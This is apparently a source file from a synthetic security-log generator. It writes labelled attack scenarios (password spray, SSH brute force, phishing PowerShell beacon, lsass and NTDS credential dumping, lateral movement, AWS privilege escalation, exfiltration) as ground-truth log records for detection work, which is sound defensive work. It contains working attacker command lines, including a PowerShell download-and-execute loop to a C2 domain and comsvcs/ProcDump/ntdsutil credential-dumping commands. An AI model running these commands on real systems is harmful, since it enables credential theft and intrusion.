/**
 * The attack stories. Each record a story writes carries its story and step tag; the ground truth is
 * built from those tags. Times are hours after the start of the day.
 */
import { adminAccount, ALLOW_OUT, ALLOW_SSH_IN, GATEWAY, personDay, workstationLogon } from './benign.js';
import { cloudTrailRecord, roleSessionIdentity, ssoSessionIdentity, withSessionStart, type UserIdentity } from './cloudtrail.js';
import { FILES, type Gen, type ProcRef } from './context.js';
import { syslogLine, sudoMessage } from './linux.js';
import { checkpointCef, ephemeralPort, zeekConn, zeekDns, zeekUid, type Flow } from './network.js';
import { oktaEvent, oktaRequestId, oktaSessionId, userTarget, type OktaClient } from './okta.js';
import { cloudtrailPath } from './paths.js';
import { awsResponseTime } from './time.js';
import type { Tag } from './sink.js';
import {
  logoff4634, logon4624, logonId, process4688, share5140, shareFile5145, specialLogon4672, sysmonAccess, sysmonFileCreate, sysmonNetwork, tgs4769,
  type Account,
} from './windows.js';
import { AWS_ACCOUNT, DOMAIN, type Host, type Person } from './world.js';

export interface StoryDef {
  id: string;
  title: string;
  techniques: string[];
  steps: { id: string; title: string; techniques: string[] }[];
}

export const STORIES: readonly StoryDef[] = [
  {
    id: 'password-spray', title: 'Okta password spray leading to an account takeover', techniques: ['T1110.003', 'T1078.004', 'T1621', 'T1098.005'],
    steps: [
      { id: 'spray', title: 'One address tries one or two passwords against many Okta accounts', techniques: ['T1110.003'] },
      { id: 'takeover', title: 'A sprayed account signs in after MFA push fatigue and a new factor is enrolled', techniques: ['T1078.004', 'T1621', 'T1098.005'] },
    ],
  },
  {
    id: 'ssh-brute-force', title: 'SSH brute force against the bastion succeeds', techniques: ['T1110.001', 'T1078.003', 'T1548.003', 'T1136.001'],
    steps: [
      { id: 'guessing', title: 'Repeated failed SSH passwords for one account from one address', techniques: ['T1110.001'] },
      { id: 'login', title: 'The guessed password is accepted', techniques: ['T1078.003'] },
      { id: 'privilege', title: 'sudo to a root shell and a backdoor account', techniques: ['T1548.003', 'T1136.001'] },
    ],
  },
  {
    id: 'phishing-powershell', title: 'Phishing document launches encoded PowerShell that beacons out', techniques: ['T1566.001', 'T1204.002', 'T1059.001', 'T1027', 'T1071.001'],
    steps: [
      { id: 'macro-exec', title: 'WINWORD.EXE starts powershell.exe -enc', techniques: ['T1204.002', 'T1059.001', 'T1027'] },
      { id: 'c2', title: 'PowerShell resolves and beacons to a rare domain', techniques: ['T1071.001'] },
    ],
  },
  {
    id: 'credential-dumping', title: 'Credential dumping on the workstation, the file server and a domain controller', techniques: ['T1003.001', 'T1003.003'],
    steps: [
      { id: 'comsvcs-minidump', title: 'rundll32 comsvcs.dll MiniDump of lsass', techniques: ['T1003.001'] },
      { id: 'procdump', title: 'ProcDump of lsass on the file server', techniques: ['T1003.001'] },
      { id: 'ntds-ifm', title: 'ntdsutil IFM copy of the AD database on a domain controller', techniques: ['T1003.003'] },
    ],
  },
  {
    id: 'lateral-movement', title: 'Lateral movement over SMB and RDP with a stolen admin account', techniques: ['T1021.002', 'T1021.001', 'T1550.002', 'T1570'],
    steps: [
      { id: 'smb-fileserver', title: 'NTLM network logon and ADMIN$ tool copy from the workstation to the file server', techniques: ['T1021.002', 'T1550.002', 'T1570'] },
      { id: 'rdp-jump', title: 'RDP from the file server to the jump host', techniques: ['T1021.001'] },
      { id: 'smb-dc', title: 'Admin share on a domain controller from the jump host', techniques: ['T1021.002'] },
    ],
  },
  {
    id: 'cloud-privesc', title: 'AWS privilege escalation with the sprayed account', techniques: ['T1078.004', 'T1087.004', 'T1098.003', 'T1098.001'],
    steps: [
      { id: 'discovery', title: 'SSO into AWS and IAM enumeration from the spray address', techniques: ['T1078.004', 'T1087.004'] },
      { id: 'assume-role', title: 'Role chaining from the SSO session into a deployment role', techniques: ['T1078.004'] },
      { id: 'escalate', title: 'AdministratorAccess attached to the role and an inline policy put on a user', techniques: ['T1098.003'] },
      { id: 'persist', title: 'An access key created for another IAM user', techniques: ['T1098.001'] },
    ],
  },
  {
    id: 'exfiltration', title: 'Finance share archived and sent to a rare external address', techniques: ['T1560.001', 'T1048.002'],
    steps: [
      { id: 'staging', title: 'Password-protected 7-Zip archive of the Finance share', techniques: ['T1560.001'] },
      { id: 'transfer', title: 'Gigabytes out to an address never seen before (firewall and Zeek)', techniques: ['T1048.002'] },
    ],
  },
];

const SPRAY_IP = '198.51.100.23';
const BRUTE_IP = '203.0.113.77';
const C2_IP = '192.0.2.44';
const C2_DOMAIN = 'cdn-telemetry-sync.com';
const EXFIL_IP = '203.0.113.200';

const SPRAY_CLIENT: OktaClient = {
  ip: SPRAY_IP, userAgent: 'python-requests/2.31.0', browser: 'UNKNOWN', os: 'Unknown', device: 'Unknown',
  geo: { city: 'Frankfurt am Main', country: 'Germany', state: 'Hesse', postalCode: '60313', lat: 50.1109, lon: 8.6821 },
  asNumber: 64500, asOrg: 'example hosting', isp: 'example hosting gmbh', domain: 'example.net',
};
const SPRAY_BROWSER: OktaClient = { ...SPRAY_CLIENT, userAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', browser: 'FIREFOX', os: 'Linux', device: 'Computer' };

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

function tag(story: string, step: string): Tag {
  return { story, step };
}

export interface Cast {
  sprayVictim: Person;
  phishVictim: Person;
  admin: Person;
}

export function pickCast(g: Gen): Cast {
  const ppl = g.world.people;
  const sprayVictim = ppl.find((p) => p.department === 'Engineering');
  const phishVictim = ppl.find((p) => p.department === 'Finance');
  const admin = ppl.find((p) => p.admin !== undefined);
  if (sprayVictim === undefined || phishVictim === undefined || admin === undefined) throw new Error('the world has no engineer, finance person or admin for the stories');
  return { sprayVictim, phishVictim, admin };
}

function passwordSpray(g: Gen, cast: Cast): void {
  const { rng, sink } = g;
  const spray = tag('password-spray', 'spray');
  const targets = rng.sample(g.world.people.filter((p) => p !== cast.sprayVictim), Math.min(34, g.world.people.length - 1));
  targets.splice(rng.int(0, targets.length), 0, cast.sprayVictim);
  let t = g.at(2.1);
  for (const p of targets) {
    const attempts = p === cast.sprayVictim ? 1 : rng.int(1, 2);
    for (let k = 0; k < attempts; k++) {
      t += rng.int(8_000, 40_000);
      sink.line(FILES.okta, t, oktaEvent(rng, {
        at: t, eventType: 'user.session.start', legacyEventType: 'core.user_auth.login_failed', displayMessage: 'User login to Okta',
        result: 'FAILURE', reason: 'INVALID_CREDENTIALS', person: p, client: SPRAY_CLIENT, sessionId: 'unknown', requestUri: '/api/v1/authn',
        transactionId: oktaRequestId(rng), credentialProvider: 'OKTA_CREDENTIAL_PROVIDER', credentialType: 'PASSWORD', severity: 'INFO',
      }), spray);
    }
  }
  // The victim's second password works; the attacker pushes MFA until it is accepted, then enrolls a device.
  const take = tag('password-spray', 'takeover');
  const v = cast.sprayVictim;
  const session = oktaSessionId(rng);
  const tx = oktaRequestId(rng);
  t += 120_000;
  sink.line(FILES.okta, t, oktaEvent(rng, {
    at: t, eventType: 'policy.evaluate_sign_on', legacyEventType: 'core.user_auth.login_success', displayMessage: 'Evaluation of sign-on policy',
    result: 'ALLOW', reason: 'Sign-on policy evaluation resulted in ALLOW', person: v, client: SPRAY_BROWSER, sessionId: session, requestUri: '/api/v1/authn', transactionId: tx,
  }), take);
  for (let k = 0; k < 4; k++) {
    t += rng.int(20_000, 45_000);
    sink.line(FILES.okta, t, oktaEvent(rng, {
      at: t, eventType: 'system.push.send_factor_verify_push', legacyEventType: 'core.user.factor.push_sent', displayMessage: 'Push sent to user for verification',
      result: 'SUCCESS', person: v, client: SPRAY_BROWSER, sessionId: session, requestUri: '/api/v1/authn/factors/verify', transactionId: tx, factor: 'OKTA_VERIFY_PUSH', target: [userTarget(v)],
    }), take);
  }
  t += 30_000;
  sink.line(FILES.okta, t, oktaEvent(rng, {
    at: t, eventType: 'user.authentication.auth_via_mfa', legacyEventType: 'core.user.factor.attempt_success', displayMessage: 'Authentication of user via MFA',
    result: 'SUCCESS', person: v, client: SPRAY_BROWSER, sessionId: session, requestUri: '/api/v1/authn/factors/verify', transactionId: tx, factor: 'OKTA_VERIFY_PUSH',
    authenticationProvider: 'FACTOR_PROVIDER', credentialProvider: 'OKTA_CREDENTIAL_PROVIDER', credentialType: 'OTP', target: [userTarget(v)],
  }), take);
  sink.line(FILES.okta, t + 900, oktaEvent(rng, {
    at: t + 900, eventType: 'user.session.start', legacyEventType: 'core.user_auth.login_success', displayMessage: 'User login to Okta',
    result: 'SUCCESS', person: v, client: SPRAY_BROWSER, sessionId: session, requestUri: '/api/v1/authn', transactionId: tx, credentialProvider: 'OKTA_CREDENTIAL_PROVIDER', credentialType: 'PASSWORD',
  }), take);
  t += 240_000;
  sink.line(FILES.okta, t, oktaEvent(rng, {
    at: t, eventType: 'user.mfa.factor.activate', legacyEventType: 'core.user.factor.activate', displayMessage: 'User set up MFA factor',
    result: 'SUCCESS', person: v, client: SPRAY_BROWSER, sessionId: session, requestUri: '/idp/authenticators/enroll', transactionId: oktaRequestId(rng), factor: 'OKTA_VERIFY_PUSH', target: [userTarget(v)],
  }), take);
}

function sshBruteForce(g: Gen): void {
  const { rng, sink, world } = g;
  const h = world.bastion;
  const guess = tag('ssh-brute-force', 'guessing');
  let t = g.at(3.15);
  const connect = (at: number, port: number, step: Tag): void => {
    const f: Flow = { at, src: BRUTE_IP, sport: port, dst: h.ip, dport: 22, proto: 'tcp', out: rng.int(2_000, 3_500), in: rng.int(2_500, 4_500), durationMs: rng.int(2_000, 6_000) };
    sink.line(FILES.firewall, at, checkpointCef(rng, GATEWAY, f, 'Accept', ALLOW_SSH_IN, true), step);
  };
  const failures = rng.int(9, 14);
  for (let k = 0; k < failures; k++) {
    t += rng.int(4_000, 15_000);
    const port = ephemeralPort(rng);
    const pid = rng.int(20000, 60000);
    connect(t - 300, port, guess);
    sink.line(FILES.linux, t, syslogLine(t, h.name, 'sshd', pid, `Failed password for deploy from ${BRUTE_IP} port ${port} ssh2`), guess);
    if (k % 3 === 2) sink.line(FILES.linux, t + 800, syslogLine(t + 800, h.name, 'sshd', pid, `Connection closed by authenticating user deploy ${BRUTE_IP} port ${port} [preauth]`), guess);
  }
  const login = tag('ssh-brute-force', 'login');
  t += rng.int(4_000, 10_000);
  const port = ephemeralPort(rng);
  const pid = rng.int(20000, 60000);
  connect(t - 300, port, login);
  sink.line(FILES.linux, t, syslogLine(t, h.name, 'sshd', pid, `Accepted password for deploy from ${BRUTE_IP} port ${port} ssh2`), login);
  sink.line(FILES.linux, t + 30, syslogLine(t + 30, h.name, 'sshd', pid, 'pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)'), login);
  const priv = tag('ssh-brute-force', 'privilege');
  t += rng.int(60_000, 180_000);
  sink.line(FILES.linux, t, syslogLine(t, h.name, 'sudo', undefined, sudoMessage('deploy', '/home/deploy', '/bin/bash')), priv);
  sink.line(FILES.linux, t + 10, syslogLine(t + 10, h.name, 'sudo', undefined, 'pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)'), priv);
  t += rng.int(30_000, 90_000);
  const upid = rng.int(20000, 60000);
  sink.line(FILES.linux, t, syslogLine(t, h.name, 'groupadd', upid, 'new group: name=sysupdate, GID=1002'), priv);
  sink.line(FILES.linux, t + 20, syslogLine(t + 20, h.name, 'useradd', upid + 1, 'new user: name=sysupdate, UID=1002, GID=1002, home=/var/lib/sysupdate, shell=/bin/bash'), priv);
}

interface Foothold { host: Host; powershell: ProcRef; user: string; logonId: string }

function phishing(g: Gen, cast: Cast): Foothold {
  const { rng, sink } = g;
  const v = cast.phishVictim;
  const h = v.workstation;
  // The victim's morning logon is part of the benign day; the attack runs in that session.
  const s = g.sessions.get(`${h.name}\u0000${v.login}`) ?? workstationLogon(g, v, h, g.at(8.2));
  const exec = tag('phishing-powershell', 'macro-exec');
  const t0 = g.at(9.2);
  const outlook = g.process(h, t0 - 1_200_000, s.explorer, s.user, s.logonId, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ');
  const word = g.process(h, t0, outlook, s.user, s.logonId, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${v.login}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8DK2QX1L\\Invoice_7731.docm" /o ""`, exec);
  const script = `$u='https://${C2_DOMAIN}/c';while($true){try{$r=(New-Object Net.WebClient).DownloadString($u);iex $r}catch{};Start-Sleep -s 300}`;
  const enc = Buffer.from(script, 'utf16le').toString('base64');
  const ps = g.process(h, t0 + 6_500, word, s.user, s.logonId, POWERSHELL, `powershell.exe -nop -w hidden -enc ${enc}`, exec,
    { currentDirectory: `C:\\Users\\${v.login}\\Documents\\` });
  const c2 = tag('phishing-powershell', 'c2');
  const dnsAt = t0 + 9_000;
  const dns: Flow = { at: dnsAt, src: h.ip, sport: ephemeralPort(rng), dst: g.world.dcs[0]?.ip ?? '10.10.0.10', dport: 53, proto: 'udp', out: 45, in: 61, durationMs: 21 };
  sink.line(FILES.zeekDns, dnsAt, zeekDns(rng, zeekUid(rng), dns, { query: C2_DOMAIN, qtype: 'A', answers: [C2_IP], rcode: 'NOERROR' }), c2);
  for (let k = 0, t = dnsAt + 400; k < 14; k++, t += 300_000 + rng.int(-20_000, 20_000)) {
    const sport = ephemeralPort(rng);
    if (k < 3) g.evtx(h, sysmonNetwork(rng, { host: h, at: t, guid: ps.guid, pid: ps.pid, image: POWERSHELL, user: s.user, srcIp: h.ip, srcPort: sport, dstIp: C2_IP, dstPort: 443, dstHost: C2_DOMAIN }), c2);
    const f: Flow = { at: t, src: h.ip, sport, dst: C2_IP, dport: 443, proto: 'tcp', out: rng.int(900, 1_600), in: rng.int(300, 9_000), durationMs: rng.int(200, 900) };
    sink.line(FILES.firewall, t, checkpointCef(rng, GATEWAY, f, 'Accept', ALLOW_OUT, false), c2);
    sink.line(FILES.zeekConn, t, zeekConn(rng, zeekUid(rng), f), c2);
  }
  return { host: h, powershell: ps, user: s.user, logonId: s.logonId };
}

function credentialDumpWorkstation(g: Gen, f: Foothold): void {
  const { rng } = g;
  const step = tag('credential-dumping', 'comsvcs-minidump');
  const h = f.host;
  const sys = g.systemProcs(h);
  const t = g.at(10.1);
  const rundll = g.process(h, t, f.powershell, f.user, f.logonId, 'C:\\Windows\\System32\\rundll32.exe',
    `"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${sys.lsass.pid} C:\\Users\\Public\\lsass.dmp full`, step, { integrity: 'High' });
  g.evtx(h, sysmonAccess(rng, {
    host: h, at: t + 180, sourceGuid: rundll.guid, sourcePid: rundll.pid, sourceImage: 'C:\\Windows\\system32\\rundll32.exe', sourceUser: f.user,
    targetGuid: sys.lsass.guid, targetPid: sys.lsass.pid, targetImage: 'C:\\Windows\\system32\\lsass.exe', grantedAccess: '0x1FFFFF',
    callTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+4c0b1|C:\\Windows\\system32\\rundll32.exe+3bc4',
  }), step);
  g.evtx(h, sysmonFileCreate(rng, h, t + 2_400, rundll.guid, rundll.pid, 'C:\\Windows\\system32\\rundll32.exe', 'C:\\Users\\Public\\lsass.dmp', f.user), step);
}

interface AdminFoothold { host: Host; account: Account; logonId: string }

function lateralToFileServer(g: Gen, cast: Cast, f: Foothold): AdminFoothold {
  const { rng, sink, world } = g;
  const step = tag('lateral-movement', 'smb-fileserver');
  const adm = adminAccount(cast.admin);
  const fs = world.fileServer;
  const t = g.at(10.65);
  const id = logonId(rng);
  const f445: Flow = { at: t - 200, src: f.host.ip, sport: ephemeralPort(rng), dst: fs.ip, dport: 445, proto: 'tcp', out: 1_480_000, in: 52_000, durationMs: 95_000 };
  sink.line(FILES.zeekConn, f445.at, zeekConn(rng, zeekUid(rng), f445), step);
  g.evtx(fs, logon4624(rng, { host: fs, at: t, account: adm, logonType: 3, sourceIp: f.host.ip, sourcePort: f445.sport, workstation: f.host.name }, id), step);
  g.evtx(fs, specialLogon4672(rng, fs, t, adm, id), step);
  const share = { host: fs, at: t + 40, account: adm, logonId: id, sourceIp: f.host.ip, share: 'ADMIN$', localPath: 'C:\\Windows' };
  g.evtx(fs, share5140(rng, share), step);
  g.evtx(fs, shareFile5145(rng, { ...share, at: t + 900 }, 'Temp\\pd64.exe', true), step);
  return { host: fs, account: adm, logonId: id };
}

function procdumpOnFileServer(g: Gen, a: AdminFoothold): void {
  const { rng } = g;
  const step = tag('credential-dumping', 'procdump');
  const h = a.host;
  const sys = g.systemProcs(h);
  const t = g.at(10.7);
  // Started as a service the way remote execution tools do.
  const pd = g.process(h, t, sys.services, `${DOMAIN}\\${a.account.name}`, a.logonId, 'C:\\Windows\\Temp\\pd64.exe', 'C:\\Windows\\Temp\\pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\fs01.dmp', step, { integrity: 'High' });
  g.evtx(h, process4688(rng, {
    host: h, at: t, user: `${DOMAIN}\\${a.account.name}`, logonId: a.logonId, image: pd.image, commandLine: pd.commandLine, parentImage: sys.services.image, parentCommandLine: sys.services.commandLine,
    pe: { description: '', product: '', company: '', original: '', version: '' }, hashes: '', pid: pd.pid, parentPid: sys.services.pid, guid: pd.guid, parentGuid: sys.services.guid, integrity: 'High',
  }, a.account), step);
  g.evtx(h, sysmonAccess(rng, {
    host: h, at: t + 350, sourceGuid: pd.guid, sourcePid: pd.pid, sourceImage: pd.image, sourceUser: `${DOMAIN}\\${a.account.name}`,
    targetGuid: sys.lsass.guid, targetPid: sys.lsass.pid, targetImage: 'C:\\Windows\\system32\\lsass.exe', grantedAccess: '0x1FFFFF',
    callTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\dbghelp.dll+1a5e3|C:\\Windows\\Temp\\pd64.exe+6b4f0',
  }), step);
  g.evtx(h, sysmonFileCreate(rng, h, t + 3_100, pd.guid, pd.pid, pd.image, 'C:\\Windows\\Temp\\fs01.dmp', `${DOMAIN}\\${a.account.name}`), step);
}

function rdpToJump(g: Gen, a: AdminFoothold): AdminFoothold {
  const { rng, sink, world } = g;
  const step = tag('lateral-movement', 'rdp-jump');
  const j = world.jump;
  const t = g.at(11.05);
  const id = logonId(rng);
  const f: Flow = { at: t - 1_500, src: a.host.ip, sport: ephemeralPort(rng), dst: j.ip, dport: 3389, proto: 'tcp', out: 2_900_000, in: 31_000_000, durationMs: 1_900_000 };
  sink.line(FILES.zeekConn, f.at, zeekConn(rng, zeekUid(rng), f), step);
  const dc = world.dcs[0] as Host;
  g.evtx(dc, tgs4769(rng, dc, t - 900, a.account, `TERMSRV/${j.fqdn}`, a.host.ip), step);
  g.evtx(j, logon4624(rng, { host: j, at: t, account: a.account, logonType: 10, sourceIp: a.host.ip, sourcePort: 0, workstation: a.host.name, elevated: true }, id), step);
  g.evtx(j, specialLogon4672(rng, j, t, a.account, id), step);
  return { host: j, account: a.account, logonId: id };
}

function smbToDc(g: Gen, a: AdminFoothold): void {
  const { rng, sink, world } = g;
  const lat = tag('lateral-movement', 'smb-dc');
  const dc = world.dcs[0] as Host;
  const t = g.at(11.3);
  const id = logonId(rng);
  const f: Flow = { at: t - 150, src: a.host.ip, sport: ephemeralPort(rng), dst: dc.ip, dport: 445, proto: 'tcp', out: 81_000, in: 96_000_000, durationMs: 240_000 };
  sink.line(FILES.zeekConn, f.at, zeekConn(rng, zeekUid(rng), f), lat);
  g.evtx(dc, logon4624(rng, { host: dc, at: t, account: a.account, logonType: 3, sourceIp: a.host.ip, sourcePort: f.sport, workstation: '-', kerberos: true }, id), lat);
  g.evtx(dc, specialLogon4672(rng, dc, t, a.account, id), lat);
  const share = { host: dc, at: t + 60, account: a.account, logonId: id, sourceIp: a.host.ip, share: 'C$', localPath: 'C:\\' };
  g.evtx(dc, share5140(rng, share), lat);
  // ntdsutil runs over a remote shell; the copy is then read through C$.
  const ntds = tag('credential-dumping', 'ntds-ifm');
  const sys = g.systemProcs(dc);
  const wmi: ProcRef = { guid: sys.svchost.guid, pid: 3412, image: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', commandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding' };
  const user = `${DOMAIN}\\${a.account.name}`;
  const cmd = g.process(dc, t + 30_000, wmi, user, id, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /Q /c ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q 1> \\\\127.0.0.1\\ADMIN$\\__1718 2>&1', ntds, { integrity: 'High' });
  const nt = g.process(dc, t + 30_400, cmd, user, id, 'C:\\Windows\\System32\\ntdsutil.exe', 'ntdsutil.exe  "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q', ntds, { integrity: 'High' });
  g.evtx(dc, process4688(rng, {
    host: dc, at: t + 30_400, user, logonId: id, image: nt.image, commandLine: nt.commandLine, parentImage: cmd.image, parentCommandLine: cmd.commandLine,
    pe: { description: '', product: '', company: '', original: '', version: '' }, hashes: '', pid: nt.pid, parentPid: cmd.pid, guid: nt.guid, parentGuid: cmd.guid, integrity: 'High',
  }, a.account), ntds);
  g.evtx(dc, shareFile5145(rng, { ...share, at: t + 95_000 }, 'Windows\\Temp\\ifm\\Active Directory\\ntds.dit', false), lat);
  g.evtx(dc, logoff4634(rng, dc, t + 240_000, a.account, id, 3), lat);
}

function cloudPrivesc(g: Gen, cast: Cast): void {
  const { rng, sink } = g;
  const v = cast.sprayVictim;
  const disc = tag('cloud-privesc', 'discovery');
  let t = g.at(11.7);
  sink.line(FILES.okta, t, oktaEvent(rng, {
    at: t, eventType: 'user.authentication.sso', legacyEventType: 'app.auth.sso', displayMessage: 'User single sign on to app',
    result: 'SUCCESS', person: v, client: SPRAY_BROWSER, sessionId: oktaSessionId(rng), requestUri: '/app/aws_iam_identity_center/sso/saml', transactionId: oktaRequestId(rng),
    target: [{ alternateId: 'AWS IAM Identity Center', detailEntry: { signOnModeType: 'SAML_2_0' }, displayName: 'AWS IAM Identity Center', id: `0oa${rng.chars('abcdefghijklmnopqrstuvwxyz0123456789', 17)}`, type: 'AppInstance' }],
  }), disc);
  const sso = withSessionStart(ssoSessionIdentity(rng, v.awsRole ?? 'ReadOnlyAccess', v.email, rng.hex(16)), t + 20_000);
  const ua = 'aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-35-generic exe/x86_64.ubuntu.22 prompt/off';
  const call = (step: Tag, identity: UserIdentity, src: string, name: string, readOnly: boolean, req: Record<string, unknown> | null, resp: Record<string, unknown> | null = null): void => {
    t += rng.int(5_000, 40_000);
    sink.cloudtrail(cloudtrailPath(t), t, cloudTrailRecord(rng, { at: t, eventSource: src, eventName: name, identity, sourceIp: SPRAY_IP, userAgent: ua, readOnly, requestParameters: req, responseElements: resp }), step);
  };
  call(disc, sso, 'sts.amazonaws.com', 'GetCallerIdentity', true, null);
  call(disc, sso, 'iam.amazonaws.com', 'ListUsers', true, null);
  call(disc, sso, 'iam.amazonaws.com', 'ListRoles', true, null);
  call(disc, sso, 'iam.amazonaws.com', 'GetAccountAuthorizationDetails', true, { filter: ['User', 'Role', 'LocalManagedPolicy', 'AWSManagedPolicy'] });
  call(disc, sso, 'iam.amazonaws.com', 'ListAttachedRolePolicies', true, { roleName: 'ops-deploy' });
  const assume = tag('cloud-privesc', 'assume-role');
  const roleArn = `arn:aws:iam::${AWS_ACCOUNT}:role/ops-deploy`;
  const key = `ASIA${rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)}`;
  call(assume, sso, 'sts.amazonaws.com', 'AssumeRole', true, { roleArn, roleSessionName: 'maint', durationSeconds: 3600 },
    { credentials: { accessKeyId: key, sessionToken: rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 64), expiration: awsResponseTime(t + 3_600_000) }, assumedRoleUser: { assumedRoleId: `AROA${rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 17)}:maint`, arn: `arn:aws:sts::${AWS_ACCOUNT}:assumed-role/ops-deploy/maint` } });
  const role = withSessionStart({ ...roleSessionIdentity(rng, 'ops-deploy', 'maint'), accessKeyId: key }, t);
  const esc = tag('cloud-privesc', 'escalate');
  call(esc, role, 'iam.amazonaws.com', 'AttachRolePolicy', false, { roleName: 'ops-deploy', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' });
  call(esc, role, 'iam.amazonaws.com', 'PutUserPolicy', false, {
    userName: 'svc-backup', policyName: 'backup-maintenance',
    policyDocument: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
  });
  const persist = tag('cloud-privesc', 'persist');
  call(persist, role, 'iam.amazonaws.com', 'CreateAccessKey', false, { userName: 'svc-backup' },
    { accessKey: { accessKeyId: `AKIA${rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)}`, status: 'Active', userName: 'svc-backup', createDate: awsResponseTime(t) } });
}

function exfiltration(g: Gen, a: AdminFoothold): void {
  const { rng, sink, world } = g;
  const fs = world.fileServer;
  const stage = tag('exfiltration', 'staging');
  const t = g.at(13.5);
  const sys = g.systemProcs(fs);
  const user = `${DOMAIN}\\${a.account.name}`;
  const cmd: ProcRef = { guid: sys.svchost.guid, pid: 6120, image: 'C:\\Windows\\System32\\cmd.exe', commandLine: 'cmd.exe' };
  const z = g.process(fs, t, cmd, user, a.logonId, 'C:\\ProgramData\\7z.exe', 'C:\\ProgramData\\7z.exe a -t7z -mx1 -mhe=on -pQ3v!x9Lr C:\\ProgramData\\upd.7z D:\\Shares\\Finance', stage, { integrity: 'High' });
  g.evtx(fs, process4688(rng, {
    host: fs, at: t, user, logonId: a.logonId, image: z.image, commandLine: z.commandLine, parentImage: cmd.image, parentCommandLine: cmd.commandLine,
    pe: { description: '', product: '', company: '', original: '', version: '' }, hashes: '', pid: z.pid, parentPid: cmd.pid, guid: z.guid, parentGuid: cmd.guid, integrity: 'High',
  }, a.account), stage);
  g.evtx(fs, sysmonFileCreate(rng, fs, t + 420_000, z.guid, z.pid, z.image, 'C:\\ProgramData\\upd.7z', user), stage);
  const send = tag('exfiltration', 'transfer');
  for (let k = 0, at = g.at(13.8); k < 3; k++, at += 900_000 + rng.int(0, 120_000)) {
    const f: Flow = { at, src: fs.ip, sport: ephemeralPort(rng), dst: EXFIL_IP, dport: 443, proto: 'tcp', out: 690_000_000 + rng.int(0, 40_000_000), in: 1_900_000 + rng.int(0, 300_000), durationMs: 780_000 + rng.int(0, 60_000) };
    sink.line(FILES.firewall, at, checkpointCef(rng, GATEWAY, f, 'Accept', ALLOW_OUT, false), send);
    sink.line(FILES.zeekConn, at, zeekConn(rng, zeekUid(rng), f), send);
  }
}

/** Write every story, and the working days of the people the stories pin (see `pickCast`). */
export function generateStories(g: Gen, cast: Cast): void {
  personDay(g, cast.phishVictim, g.at(8.3));
  personDay(g, cast.sprayVictim, g.around(8.5, 0.5));
  // Earlier in the morning an admin helped the phishing victim at their desk, leaving credentials in lsass.
  const ws = cast.phishVictim.workstation;
  const adm = adminAccount(cast.admin);
  const helpAt = g.at(8.75);
  const hid = logonId(g.rng);
  g.evtx(ws, logon4624(g.rng, { host: ws, at: helpAt, account: adm, logonType: 10, sourceIp: cast.admin.workstation.ip, sourcePort: 0, workstation: cast.admin.workstation.name, elevated: true }, hid));
  g.evtx(ws, logoff4634(g.rng, ws, helpAt + 600_000, adm, hid, 10));

  passwordSpray(g, cast);
  sshBruteForce(g);
  const foothold = phishing(g, cast);
  credentialDumpWorkstation(g, foothold);
  const onFs = lateralToFileServer(g, cast, foothold);
  procdumpOnFileServer(g, onFs);
  const onJump = rdpToJump(g, onFs);
  smbToDc(g, onJump);
  cloudPrivesc(g, cast);
  exfiltration(g, onFs);
}
